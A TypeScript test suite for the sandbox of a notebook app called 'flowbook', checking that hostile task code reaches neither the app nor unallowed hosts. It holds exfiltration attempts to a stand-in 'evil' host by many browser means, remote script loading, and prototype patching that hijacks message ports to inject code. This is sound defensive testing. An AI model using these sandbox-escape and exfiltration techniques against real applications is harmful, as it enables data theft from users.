import { readFileSync } from "node:fs";
import { startEvilHost, type EvilHost } from "./evil.ts";
import type { EngineName } from "./fixture.ts";
import { answer, expect, test } from "./fixture.ts";

// Browsers say what a policy forbids as errors of the page.
test.use({ mayComplain: true });

const attempts = readFileSync(
  new URL("./attempts.js", import.meta.url),
  "utf8",
);

/** A notebook whose only task runs `body`, in which `evil` is a host that was never allowed and `app` the page's address. */
const attackNotebook = (
  { evil, app = "" }: { evil: string; app?: string },
  body: string,
): string =>
  `---\nflowbook: 1\ntitle: Attack\n---\n\n\`\`\`\`js attack\nconst attack = task(async (evil, app) => {\n${body}\n}, { timeout: "20s" })\nflow("Attack", () => attack(${JSON.stringify(evil)}, ${JSON.stringify(app)}))\n\`\`\`\`\n`;

/** What an engine gives in a sandbox that is worth nothing there. */
const harmless: Readonly<Record<EngineName, Record<string, string>>> = {
  chromium: {},
  firefox: {},
  // A cache of the opaque origin's own, which is gone with it.
  webkit: { caches: "opened 0" },
};

/** Attempts that are seen at the host when nothing forbids them, which is as it should be for a test that counts on seeing none. */
const visible: readonly string[] = [
  ...["fetch", "fetch-post", "fetch-no-cors", "fetch-keepalive"],
  ...["fetch-by-number", "fetch-by-name", "XMLHttpRequest"],
  ...["XMLHttpRequest-waiting", "events", "WebSocket", "importScripts"],
  ...["import", "import-json", "static-import", "static-export"],
  ...["import-of-data", "import-of-an-import", "nested-worker", "data-worker"],
  ...["nested-module-worker", "nested-importing-worker"],
  ...["worker-in-a-worker-in-a-worker", "data-worker-in-a-worker"],
];
const alsoVisible: Readonly<Record<EngineName, readonly string[]>> = {
  chromium: ["FontFace", "fonts", "WebSocketStream"],
  firefox: ["FontFace", "fonts"],
  webkit: [],
};

/** The names of the attempts that reached a host. */
const namesOf = (hits: readonly string[]): string[] =>
  hits.map((path) => path.slice(1).replace(/[.?].*/, ""));

/** Starts the attempts in a plain worker of the page, as a page would that has no sandbox; what it finds is at `window.found`. */
function startPlainWorker([body, evil, app]: readonly [
  body: string,
  evil: string,
  app: string,
]): void {
  const channel = new BroadcastChannel("flowbook-test");
  channel.onmessage = () => channel.postMessage("the app heard it");
  const text =
    `(async () => { const evil = ${JSON.stringify(evil)}, app = ${JSON.stringify(app)}; setInterval(() => postMessage({ found }), 200); ${body} })()`
      .replace("const found = {};", "")
      .replace("(async", "const found = {}; (async");
  const worker = new Worker(
    URL.createObjectURL(new Blob([text], { type: "text/javascript" })),
  );
  worker.onmessage = ({ data }: MessageEvent) => {
    if (data.found) Object.assign(window, { found: data.found });
  };
  Object.assign(window, { worker });
}

let evil: EvilHost;
test.beforeEach(async () => {
  evil = await startEvilHost();
});
test.afterEach(() => evil.close());

test("hostile code in a task reaches nothing of the app and no host that was not allowed", async ({
  tab,
  address,
  engineName,
}) => {
  test.slow();
  const attack = () =>
    tab.evaluate(
      async (markdown) => {
        localStorage.setItem("secret", "the reader's");
        const channel = new BroadcastChannel("flowbook-test");
        channel.onmessage = () => channel.postMessage("the app heard it");
        await window.flowbook.open(markdown);
        return window.flowbook.run();
      },
      attackNotebook({ evil: evil.origin, app: address }, attempts),
    );
  let report = await attack();
  // A worker of Firefox may block for ever when it starts another while it imports, and with it those that follow in its page.
  for (let more = engineName === "firefox" ? 5 : 0; more > 0; more -= 1)
    if (report.tasks[0]?.state === "TimedOut") {
      await tab.reload();
      await answer(tab);
      report = await attack();
    }
  expect(report.state, JSON.stringify(report)).toBe("Success");
  const found = report.tasks[0]?.result as Record<string, string>;
  expect(Object.keys(found).length).toBeGreaterThanOrEqual(70);
  const leaked = Object.entries(found).filter(
    ([name, got]) => got !== "refused" && got !== harmless[engineName][name],
  );
  expect(leaked).toEqual([]);
  expect(evil.hits).toEqual([]);
});

test("without the sandbox the same code reads what the app keeps, so the test above can see a leak", async ({
  tab,
  address,
}) => {
  const options = [attempts, evil.origin, address] as const;
  const unread = new Set([
    ...["indexedDB", "indexedDB.databases", "locks", "broadcast"],
    ...["app by fetch", "app by fetch without cors"],
  ]);
  const stillUnread = async () => {
    const found = await tab.evaluate(
      () => (window as unknown as { found?: Record<string, string> }).found,
    );
    for (const [name, got] of Object.entries(found ?? {}))
      if (got !== "refused") unread.delete(name);
    return [...unread];
  };
  // Each attempt gives up after a while, on a busy machine perhaps before it is answered.
  await expect(async () => {
    await tab.evaluate(startPlainWorker, options);
    await expect.poll(stillUnread, { timeout: 12_000 }).toEqual([]);
  }).toPass({ timeout: 55_000 });
});

test("without any policy the same code reaches the host by every means that the engine has", async ({
  tab,
  engineName,
}) => {
  const free = await startEvilHost();
  const page = `${free.origin}/page`;
  const expected = [...visible, ...alsoVisible[engineName]];
  const unseen = () => {
    const seen = new Set(namesOf(evil.hits));
    return expected.filter((name) => !seen.has(name));
  };
  // Its hits are what is waited for: the worker itself need not come to its end. Firefox may block one for ever in the middle of
  // the attempts, and another then comes further.
  await expect(async () => {
    await tab.goto(page);
    const options = [attempts, evil.origin, page] as const;
    await tab.evaluate(startPlainWorker, options);
    await expect.poll(unseen, { timeout: 12_000 }).toEqual([]);
  }).toPass({ timeout: 55_000 });
  await free.close();
});

test("a host that the reader allows can be reached, no other by a redirect from it, and its code is never run", async ({
  tab,
}) => {
  const other = await startEvilHost();
  const body = `
    const over = "/redirect?" + encodeURIComponent(${JSON.stringify(other.origin)} + "/over");
    const tried = (action) => action().then(String, () => "refused");
    const heard = (target, good) => new Promise((resolve, reject) => { target[good] = () => resolve(good); target.onerror = reject });
    return {
      status: await tried(async () => (await fetch(evil + "/allowed")).status),
      elsewhere: await tried(async () => (await fetch(${JSON.stringify(other.origin)})).status),
      redirected: await tried(async () => (await fetch(evil + over)).status),
      "redirected without cors": await tried(async () => (await fetch(evil + over, { mode: "no-cors" })).type),
      "redirected in a nested worker": await tried(() => {
        const text = "fetch('" + evil + over + "').then(() => postMessage(1), () => close())";
        return Promise.race([heard(new Worker(URL.createObjectURL(new Blob([text]))), "onmessage"), new Promise((_, reject) => setTimeout(reject, 500))]);
      }),
      "redirected XMLHttpRequest": await tried(() => { const xhr = new XMLHttpRequest(); xhr.open("GET", evil + over); xhr.send(); return heard(xhr, "onload") }),
      "redirected events": await tried(() => { const source = new EventSource(evil + over); return heard(source, "onopen").finally(() => source.close()) }),
      "its script": await tried(() => import(evil + "/script.js")),
      "its classic script": await tried(async () => importScripts(evil + "/script.js")),
    };`;
  const report = await tab.evaluate(
    async ([markdown, origin]) => {
      await window.flowbook.open(markdown);
      await window.flowbook.allow(origin);
      return window.flowbook.run();
    },
    [attackNotebook({ evil: evil.origin }, body), evil.origin] as const,
  );
  const refused = "refused";
  expect(report.tasks[0]?.result, JSON.stringify(report)).toEqual({
    status: "200",
    elsewhere: refused,
    redirected: refused,
    "redirected without cors": refused,
    "redirected in a nested worker": refused,
    "redirected XMLHttpRequest": refused,
    "redirected events": refused,
    "its script": refused,
    "its classic script": refused,
  });
  expect(evil.hits[0]).toBe("/allowed");
  expect(evil.hits.every((path) => !path.startsWith("/script"))).toBe(true);
  expect(other.hits).toEqual([]);
  await other.close();
});

test("drawing the graph and showing a cell reach no host, drawing not even one that was allowed", async ({
  tab,
}) => {
  const allowed = await startEvilHost();
  const ways = [
    (address: string) =>
      `fetch("${address}", { mode: "no-cors" }).catch(() => {})`,
    (address: string) =>
      `const xhr = new XMLHttpRequest(); xhr.open("GET", "${address}", false); xhr.send()`,
    (address: string) => `importScripts("${address}.js")`,
    (address: string) => `import("${address}.js").catch(() => {})`,
    (address: string) =>
      `new Worker(URL.createObjectURL(new Blob(["fetch('${address}')"]))).onerror = (event) => event.preventDefault()`,
  ];
  // One way a notebook: all of them in one drawing may take longer than a drawing may.
  for (const way of ways) {
    const leak = (address: string) => `try { ${way(address)} } catch {}`;
    const markdown = `---
flowbook: 1
title: Drawn
---

\`\`\`js drawn
${leak(`${evil.origin}/drawn`)}
const t = task(() => 1)
flow("Drawn", () => { ${leak(`${allowed.origin}/traced`)} ; return t() })
\`\`\`

\`\`\`js shown
${leak(`${evil.origin}/shown`)}
const shown = "shown"
display(shown)
\`\`\`
`;
    const { nodes, output } = await tab.evaluate(
      async ([text, origin]) => {
        const draw = async (go: number) => {
          await window.flowbook.open(
            text.replaceAll(/^```js .+$/gm, `$&\n// go ${go}`),
          );
          await window.flowbook.allow(origin);
          return window.flowbook.graph();
        };
        // What a slow machine cannot draw in time is drawn anew, as other code: this is about what is reached meanwhile.
        const { nodes } = await draw(1)
          .catch(() => draw(2))
          .catch(() => draw(3));
        return {
          nodes: nodes.length,
          output: await window.flowbook.output("shown"),
        };
      },
      [markdown, allowed.origin] as const,
    );
    expect(nodes).toBe(1);
    expect(output?.text).toBe("shown");
  }
  expect(evil.hits).toEqual([]);
  expect(allowed.hits).toEqual([]);
  await allowed.close();
});

/** Catches the ports of the kernel, whatever it does to hide them: `engine` to the engine, `data` to the database. */
const catchPorts = `
const engine = new Set(), data = new Set();
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...args) { (data.has(this) ? data : engine).add(this); return post.apply(this, args) };
const read = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data").get;
Object.defineProperty(MessageEvent.prototype, "data", { get() {
  const value = read.call(this);
  if (value?.port instanceof MessagePort) data.add(value.port);
  const from = this.currentTarget;
  if (from instanceof MessagePort && !data.has(from)) engine.add(from);
  return value;
} });
log("catches the engine's port");
await db.query("SELECT 1");
const codes = ["return (async () => { const open = indexedDB.open('stolen'); await new Promise(r => open.onsuccess = r); })()", "globalThis.stolen = true"];
let id = 1;
const attack = (port) => {
  for (const path of [["constructor", "constructor"], ["query", "constructor"], ["__proto__", "constructor", "constructor"], ["commit"], ["removeFile"]])
    for (const type of ["GET", "SET", "APPLY", "CONSTRUCT", "ENDPOINT", "RELEASE"])
      for (const code of codes)
        post.call(port, { id: "attack-" + id++, type, path, value: { type: "RAW", value: code }, argumentList: [{ type: "RAW", value: code }] });
  for (const method of ["constructor", "__proto__", "toString", "commit", "open", "remove", "hasOwnProperty"])
    post.call(port, { call: 100000 + id++, method, sql: codes[0], parameters: [], args: [codes[0]] });
};
`;

/** Runs a notebook, and tells what of the page's realm was changed. */
const runAndLook = async (markdown: string) => {
  await window.flowbook.open(markdown);
  const report = await window.flowbook.run();
  return {
    report,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    prototype: Object.keys(Object.prototype),
  };
};

test("hostile code finds no way into the database worker through its port", async ({
  tab,
}) => {
  const body = `${catchPorts}
    let answers = 0;
    for (const port of data) {
      port.addEventListener("message", (event) => { if (read.call(event)?.id?.startsWith?.("attack")) answers += 1 });
      attack(port);
    }
    // Calls are answered in order: when this has its rows, all of the above is over.
    const [row] = await db.query("SELECT 41 + 1 AS answer");
    return { ports: data.size, answers, answer: row.answer };`;
  const { report, databases, prototype } = await tab.evaluate(
    runAndLook,
    attackNotebook({ evil: evil.origin }, body),
  );
  expect(report.state, JSON.stringify(report)).toBe("Success");
  expect(report.tasks[0]?.result).toEqual({ ports: 1, answers: 0, answer: 42 });
  expect(databases).not.toContain("stolen");
  expect(prototype).toEqual([]);
});

test("a task that sends the engine what no task may send is Crashed and says why, while the others go on", async ({
  tab,
}) => {
  const markdown = `---
flowbook: 1
title: Garbage
---

\`\`\`js work
const garbage = task(async () => {
  ${catchPorts}
  // For jobs that are not its own, which is heard by nobody.
  for (let job = 100; job < 1100; job++)
    for (const port of engine) post.call(port, { type: "returned", job, value: "stolen" });
  for (const port of engine) attack(port);
  await new Promise(() => {});
})
const steady = task(async () => {
  await load("steady", Array.from({ length: 2000 }, (_, n) => ({ n })))
  await new Promise((resolve) => setTimeout(resolve, 300))
  return (await db.query("SELECT count(*) AS n FROM steady"))[0].n
})
flow("Garbage", () => { garbage(); return steady() })
\`\`\`
`;
  const { report, databases, prototype } = await tab.evaluate(
    runAndLook,
    markdown,
  );
  const [garbage, steady] = report.tasks;
  expect(steady).toMatchObject({ state: "Success", result: 2000 });
  expect(garbage).toMatchObject({
    state: "Crashed",
    message: expect.stringContaining("no task may send"),
  });
  expect(databases).not.toContain("stolen");
  expect(prototype).toEqual([]);
});
